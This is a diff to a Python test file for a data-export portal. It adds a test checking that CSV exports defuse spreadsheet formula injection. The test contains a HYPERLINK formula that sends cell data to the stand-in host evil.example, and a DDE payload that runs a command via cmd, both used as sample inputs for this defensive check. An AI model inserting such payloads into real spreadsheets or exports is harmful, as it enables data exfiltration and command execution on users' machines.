@@ -22,10 +22,11 @@ from portal import i18n
 from portal.datamap import DataMap, collect, load_datamap
 from portal.demo import DATAMAP_PATH, EDGE_CASES, EDGE_CASES_BY_KEY
 from portal.exports.build import Person, build_files
-from portal.exports.csv_zip import ENCODING
+from portal.exports.csv_zip import ENCODING, CsvTables
 from portal.exports.document import FORMAT, SCHEMA_FILE, portable
 from portal.exports.models import ExportFile, ExportScope
 from portal.exports.store import ExportStore
+from portal.spreadsheet import unsafe_cell
 from tests.datamap.test_paging import expected_order
 
 MADE_AT = datetime(2026, 11, 24, 11, 0, tzinfo=UTC)
@@ -159,7 +160,9 @@ def test_the_csvs_read_back_with_the_same_rows_as_the_json(
                     # A code the map labels is its label in the CSV (#16 item 4).
                     else labels[name].get(str(value), str(value))
                 )
-                assert row[name] == expected
+                # A cell a spreadsheet would take for a formula has a ' in front; a program
+                # gets the value back exactly (portal/spreadsheet.py).
+                assert unsafe_cell(row[name]) == expected
 
 
 def test_the_zip_has_a_readme_in_the_persons_language(built: dict[str, Path]) -> None:
@@ -411,3 +414,22 @@ def test_a_long_table_prints_a_line_per_row_and_a_short_one_its_columns(
     assert order.value("order_number") in html
     header = escape(" · ".join(orders.columns))
     assert f'<th scope="col">{header}' in html
+
+
+def test_a_cell_a_spreadsheet_would_run_is_neutralised_and_the_json_stays_exact(
+    tmp_path: Path,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Kari")'
+    with CsvTables(tmp_path) as tables:
+        tables.begin("notes", ["text", "amount", "phone"])
+        tables.row(1, "customer_id", [formula, "-120.50", "+47 912 34 567"])
+        tables.row(2, "customer_id", ["@SUM(1+1)*cmd|' /C calc'!A0", "-", "'=already quoted"])
+    with (tmp_path / "notes.csv").open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1] == ["1", "customer_id", "'" + formula, "-120.50", "+47 912 34 567"]
+    assert rows[2] == ["2", "customer_id", "'@SUM(1+1)*cmd|' /C calc'!A0", "-", "''=already quoted"]
+    assert [unsafe_cell(cell) for cell in rows[2][2:]] == [
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-",
+        "'=already quoted",
+    ]
